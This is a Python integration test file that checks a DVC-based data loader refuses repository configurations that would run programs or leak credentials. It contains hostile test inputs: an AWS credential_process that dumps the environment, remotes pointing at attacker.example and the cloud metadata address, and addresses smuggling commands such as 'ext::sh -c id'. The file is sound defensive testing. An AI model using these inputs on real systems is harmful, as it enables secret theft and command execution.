"""A data repository decides over rows, never over the machine that reads them."""

import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from components.common.errors import InputError, KubealignError
from components.common.urls import check_repository
from components.config.params import load_config
from components.sources import data, remotes
from components.sources.base_model import resolve_base
from components.sources.data import data_folders, resolve_data
from tests.conftest import ROOT
from tests.support.hostile import data_repository, recorder
from tests.support.repositories import git
from tests.support.services import git_http_server

pytestmark = pytest.mark.integration

FOLDERS = data_folders("data")
S3 = "    url = s3://bucket/dvc\n    endpointurl = http://127.0.0.1:9\n    region = us-east-1\n"


def program(mark: Path) -> str:
    """An AWS configuration file that names a program to run, which leaves the environment's secrets behind."""
    keys = '{"Version": 1, "AccessKeyId": "a", "SecretAccessKey": "b"}'
    return f"[default]\ncredential_process = sh -c 'env > {mark}; echo {keys!r}'\n[profile team]\n" + (
        f"credential_process = sh -c 'env > {mark}; echo {keys!r}'\n"
    )


@pytest.fixture
def mark(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Where the attacker's program would leave what it saw."""
    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.delenv(name, raising=False)  # an environment without keys makes botocore look further
    monkeypatch.setenv("AWS_ENDPOINT_URL", "http://127.0.0.1:9")
    monkeypatch.setenv("GIT_PASSWORD", "ghp_SECRET")
    return tmp_path / "mark"


def resolve_elsewhere(repo: Path, unguarded: str = "", keep_aws: bool = True) -> subprocess.CompletedProcess[str]:
    """Resolve the data in a process of its own, as a step does: botocore keeps what it once read."""
    script = (
        "import sys\nfrom components.sources import data, remotes\n"
        f"{unguarded}\n"
        "data.resolve_data(sys.argv[1], 'HEAD', data.data_folders('data'))\n"
    )
    kept = {name: value for name, value in os.environ.items() if keep_aws or not name.startswith("AWS_")}
    settings = kept | {"PYTHONPATH": str(ROOT), "AWS_MAX_ATTEMPTS": "1", "AWS_EC2_METADATA_DISABLED": "true"}
    return subprocess.run(
        [sys.executable, "-P", "-c", script, str(repo)], env=settings, capture_output=True, text=True, check=False
    )


OPTIONS = {
    "configpath": "    configpath = ../aws.cfg\n",
    "credentialpath": "    credentialpath = ../aws.cfg\n",
    "profile": "    profile = team\n    configpath = ../aws.cfg\n",
    "access_key_id": "    access_key_id = AKIA\n    secret_access_key = x\n",
    "ssl_verify": "    ssl_verify = false\n",
    "allow_anonymous_login": "    allow_anonymous_login = true\n",
    "dir": "[cache]\n    dir = /tmp/of-the-attacker\n",
    "row_limit": "[state]\n    row_limit = 1\n",
    "session_token": "    session_token = x\n",
}


def test_the_section_core_chooses_no_folder_to_write_to(tmp_path: Path, mark: Path) -> None:
    root = data_repository(tmp_path / "repo", S3, core="    site_cache_dir = /tmp/of-the-attacker\n")
    with pytest.raises(InputError, match=r"\.dvc/config: core: site_cache_dir"):
        resolve_data(str(root), "HEAD", FOLDERS)


@pytest.mark.parametrize("option", OPTIONS)
def test_an_option_that_belongs_to_the_machine_is_refused_by_name(tmp_path: Path, mark: Path, option: str) -> None:
    text = OPTIONS[option]
    root = data_repository(tmp_path / "repo", S3 + text, {"aws.cfg": program(mark)})
    with pytest.raises(InputError, match=rf"\.dvc/config: \w+.*{option}.*config\.local"):
        resolve_data(str(root), "HEAD", FOLDERS)
    assert not mark.exists()


UNGUARDED = "remotes.check_repository = lambda *arguments: None"


def test_without_the_allow_list_and_the_empty_aws_file_a_commit_runs_its_program(tmp_path: Path, mark: Path) -> None:
    """The attack is real: each of the two guards alone stops it, and without both it succeeds."""
    root = data_repository(tmp_path / "repo", S3 + OPTIONS["profile"], {"aws.cfg": program(mark)})
    done = resolve_elsewhere(root)
    assert done.returncode and "InputError" in done.stderr and "configpath" in done.stderr and not mark.exists()
    resolve_elsewhere(root, UNGUARDED)
    assert not mark.exists(), "AWS_CONFIG_FILE names an empty file, and yet another one was read"
    resolve_elsewhere(root, UNGUARDED, keep_aws=False)
    assert "ghp_SECRET" in mark.read_text()


def test_the_checked_out_configuration_counts_as_little_as_the_committed_one(tmp_path: Path, mark: Path) -> None:
    """DVC takes the default remote of a local repository from what is checked out: a colleague's branch."""
    root = data_repository(tmp_path / "repo", S3)
    git(root, "tag", "good")
    (root / ".dvc" / "config").write_text((root / ".dvc" / "config").read_text() + OPTIONS["configpath"])
    with pytest.raises(InputError, match="configpath"):
        resolve_data(str(root), "good", FOLDERS)


def test_the_configuration_of_one_machine_is_not_taken_from_a_commit(tmp_path: Path, mark: Path) -> None:
    local = {".dvc/config.local": f"['remote \"store\"']\n{OPTIONS['configpath']}", "aws.cfg": program(mark)}
    root = data_repository(tmp_path / "repo", S3, local)
    for repo in (str(root), "served"):
        with git_http_server(tmp_path) as http, pytest.raises(InputError, match=r"config\.local is committed"):
            resolve_data(f"{http}/repo" if repo == "served" else repo, "HEAD", FOLDERS)
    git(root, "rm", "-q", "--cached", ".dvc/config.local")
    git(root, "commit", "-qm", "mine again")
    with pytest.raises(KubealignError, match="cannot be fetched|neither in"):  # one's own file is one's own affair
        resolve_data(str(root), "HEAD", FOLDERS)


@pytest.mark.parametrize(
    ("remote", "reason"),
    [
        ("    url = s3://bucket/dvc\n    endpointurl = https://s3.attacker.example\n", "endpointurl"),
        ("    url = s3://bucket/dvc\n    endpointurl = http://169.254.169.254/\n", "scheme http"),
        ("    url = s3://bucket/dvc\n    endpointurl = https://s3.amazonaws.com.attacker.example\n", "endpointurl"),
        ("    url = s3://bucket/dvc\n    endpointurl = https://s3.amazonaws.com@attacker.example\n", "user or token"),
        ("    url = http://attacker.example/dvc\n", "scheme http"),
        ("    url = ssh://git@attacker.example/dvc\n", "scheme ssh"),
        ("    url = https://me:token@attacker.example/dvc\n", "user or token"),
        ("    url = s3://bucket/dvc?versionId=1\n", "query"),
    ],
)
def test_a_remote_is_in_a_store_that_the_machine_may_talk_to(
    tmp_path: Path, mark: Path, remote: str, reason: str
) -> None:
    root = data_repository(tmp_path / "repo", remote)
    with pytest.raises(InputError, match=rf"remote store: .*{reason}"):
        resolve_data(str(root), "HEAD", FOLDERS)


def test_the_endpoint_of_the_machine_and_of_aws_are_accepted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AWS_ENDPOINT_URL", "http://seaweed.kubealign.svc:8333")
    for endpoint in ("http://seaweed.kubealign.svc:8333", "https://s3.eu-central-1.amazonaws.com"):
        remotes._check_config({"remote": {"store": {"url": "s3://bucket/dvc", "endpointurl": endpoint}}}, "repo")


# ---- the git token answers one host

TOKEN = "ghp_SUPERSECRETTOKEN"  # noqa: S105 - of nobody


@pytest.fixture
def git_secret(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[str], None]:
    """The git configuration of the data image, with a token for a host; an argument replaces the configuration."""
    home = tmp_path / "git-home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GIT_TERMINAL_PROMPT", "0")
    monkeypatch.setenv("GIT_USERNAME", "ci-bot")
    monkeypatch.setenv("GIT_PASSWORD", TOKEN)
    monkeypatch.setenv("GIT_HOST", "git.example.com")

    def configure(text: str) -> None:
        (home / ".gitconfig").write_text(text)

    configure((ROOT / "components" / "gitconfig").read_text())
    return configure


def helper(host: str, protocol: str = "https", more: str = "") -> str:
    """What the helper says, asked as git asks it."""
    import configparser

    config = configparser.RawConfigParser()
    config.read(ROOT / "components" / "gitconfig")
    command = config["credential"]["helper"].strip('"').replace('\\"', '"').replace("\\\\", "\\")
    asked = f"protocol={protocol}\nhost={host}\n{more}\n"
    return subprocess.run(
        ["sh", "-c", f"{command[1:]} get"], input=asked, capture_output=True, text=True, check=False
    ).stdout


def test_the_helper_answers_its_own_https_host_alone(git_secret: Callable[[str], None]) -> None:
    assert helper("git.example.com") == f"username=ci-bot\npassword={TOKEN}\n"
    for host in ("attacker.example", "git.example.com.attacker.example", "git.example.com:444", "", "gitXexample.com"):
        assert not helper(host), host
    assert not helper("git.example.com", "http")
    assert not helper("attacker.example", "https", "path=x host=git.example.com\n")


def test_a_helper_without_a_host_answers_nobody(
    git_secret: Callable[[str], None], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GIT_HOST")
    assert not helper("") and not helper("git.example.com")


OLD_HELPER = f"[credential]\n\thelper = \"!printf 'username=ci-bot\\\\npassword={TOKEN}\\\\n' #\"\n"
"""Answers every host."""


def test_a_repository_elsewhere_gets_no_token(git_secret: Callable[[str], None]) -> None:
    with recorder() as attacker:
        with pytest.raises(InputError):
            resolve_data(f"{attacker.address}/attacker/repo", "HEAD", FOLDERS)
        assert attacker.requests and TOKEN not in attacker.secrets()
        git_secret(OLD_HELPER)  # a helper that answers every host: the server sees the token
        with pytest.raises(InputError):
            resolve_data(f"{attacker.address}/attacker/again", "HEAD", FOLDERS)
        assert TOKEN in attacker.secrets()


IMPORT = """md5: 0123456789abcdef0123456789abcdef
frozen: true
deps:
- path: data/preferences
  {where}
outs:
- md5: 0123456789abcdef0123456789abcdef.dir
  size: 1
  nfiles: 1
  hash: md5
  path: {name}
"""


@pytest.mark.parametrize("name", ["preferences", "instructions", "beside"])
def test_a_dvc_import_is_refused_before_anybody_is_asked(
    tmp_path: Path, git_secret: Callable[[str], None], monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    git_secret(OLD_HELPER)
    with recorder() as attacker:
        where = f"repo: {{url: '{attacker.address}/attacker/repo', rev_lock: '{'0' * 40}'}}"
        imported = {f"data/{name}.dvc": IMPORT.format(where=where, name=name)}
        root = data_repository(tmp_path / "repo", files=imported)
        with pytest.raises(InputError, match=rf"data/{name}\.dvc is a DVC import"):
            resolve_data(str(root), "HEAD", FOLDERS)
        assert not attacker.requests
        if name == "preferences":
            monkeypatch.setattr(remotes, "check_repository", lambda *arguments: None)
            with pytest.raises(Exception):  # noqa: B017 - whatever DVC says of a server without a repository
                resolve_data(str(root), "HEAD", FOLDERS)
            assert TOKEN in attacker.secrets(), "the attack does not work even without the guard"


def test_an_import_from_a_url_is_refused_too(tmp_path: Path) -> None:
    text = IMPORT.format(where="hash: md5", name="preferences").replace("data/preferences\n", "https://x.example/y\n")
    root = data_repository(tmp_path / "repo", files={"data/preferences.dvc": text})
    with pytest.raises(InputError, match="DVC import"):
        resolve_data(str(root), "HEAD", FOLDERS)


# ---- addresses


@pytest.mark.parametrize(
    "address",
    [
        "http://git.example.com/team/data",
        "git://git.example.com/team/data",
        "file://host/etc",
        "file:///srv/data\n",
        "file:etc://x",
        "ftp://git.example.com/x",
        "ext::sh -c id",
        "ext::sh%20-c%20id",
        "--upload-pack=id",
        "https://me:token@git.example.com/x",
        "https://token@git.example.com/x",
        "https://git.example.com@attacker.example/x",
        "https://git.example.com\\@attacker.example/x",
        "https://git.example.com/x?token=secret",
        "https://git.example.com/x#fragment",
        "https://git.example.com\t/x",
        "https://git.example.com\n/x",
        "https:///x",
        "https://git.example.com",
        "https://git%2eexample.com/x",
        "https://git.example.com:0/x",
        "ssh://git:password@git.example.com/x",
        "HTTP://127.0.0.1.attacker.example/x",
        "http://127.0.0.1@attacker.example/x",
    ],
)
def test_an_address_of_another_kind_is_refused(address: str) -> None:
    with pytest.raises(ValueError, match=r"\w"):
        check_repository(address)


@pytest.mark.parametrize(
    "address",
    [
        ".",
        "../data",
        "/srv/data with blank",
        "file:///srv/data",
        "https://git.example.com/team/data.git",
        "https://git.example.com:8443/team/data",
        "ssh://git@git.example.com/team/data",
        "git@git.example.com:team/data.git",
        "http://127.0.0.1:8000/data",
        "http://[::1]:8000/data",
    ],
)
def test_the_usual_addresses_are_accepted(address: str) -> None:
    assert check_repository(address) == address


@pytest.mark.parametrize(
    "address", ["http://127.0.0.1:8000/x", "git@git.example.com:x.git", "ssh://git@git.example.com/x", "/etc", "."]
)
def test_a_pod_clones_from_https_alone(address: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KUBEALIGN_KFP_RUN", "a-run")
    with pytest.raises(InputError, match="https"):
        data.check_address(address)
    data.check_address("https://git.example.com/x")


@pytest.mark.parametrize("url", ["/srv/store", "../store", "http://127.0.0.1:9/x"])
def test_a_pod_reads_data_from_no_folder(tmp_path: Path, url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KUBEALIGN_KFP_RUN", "a-run")
    with pytest.raises(InputError, match="s3"):
        remotes._check_config({"remote": {"store": {"url": url}}}, "repo")


def test_a_repository_with_an_ordinary_configuration_still_gives_its_data(tmp_path: Path) -> None:
    root = data_repository(tmp_path / "repo", core="    analytics = false\n    autostage = false\n")
    plain = data_repository(tmp_path / "plain")
    assert set(resolve_data(str(plain), "HEAD", FOLDERS).digests) == set(FOLDERS)
    assert set(resolve_data(str(root), "HEAD", FOLDERS).digests) == set(FOLDERS)


# ---- other addresses


@pytest.mark.parametrize(
    "setting",
    [
        "cluster.mlflow_uri=http://me:s@mlflow:5000",
        "cluster.mlflow_uri=http://mlflow:5000/?token=s",
        "cluster.s3_endpoint=http://s3:9000/#s",
        "cluster.s3_endpoint=ftp://s3:9000",
    ],
)
def test_a_server_of_the_cluster_is_named_without_secrets(setting: str) -> None:
    with pytest.raises(InputError, match=setting.partition("=")[0]):
        load_config(ROOT / "params.yaml", [setting])
    load_config(ROOT / "params.yaml", ["cluster.mlflow_uri=http://mlflow.kubealign.svc:5000"])


@pytest.mark.parametrize("base", ["s3://key:secret@bucket/model", "s3://bucket/model?versionId=1", "s3:///model"])
def test_a_bucket_is_named_without_keys_or_queries(base: str) -> None:
    config = load_config(ROOT / "params.yaml", [f"model.base={base}"])
    with pytest.raises(InputError, match=r"model\.base"):
        resolve_base(config.model, config.data)


def test_no_workflow_reads_data_past_the_allow_list() -> None:
    """`dvc fetch` and `dvc pull` take a branch's .dvc/config as it is."""
    for workflow in (ROOT / ".github" / "workflows").glob("*.yml"):
        assert not [line for line in workflow.read_text().splitlines() if "dvc fetch" in line or "dvc pull" in line]
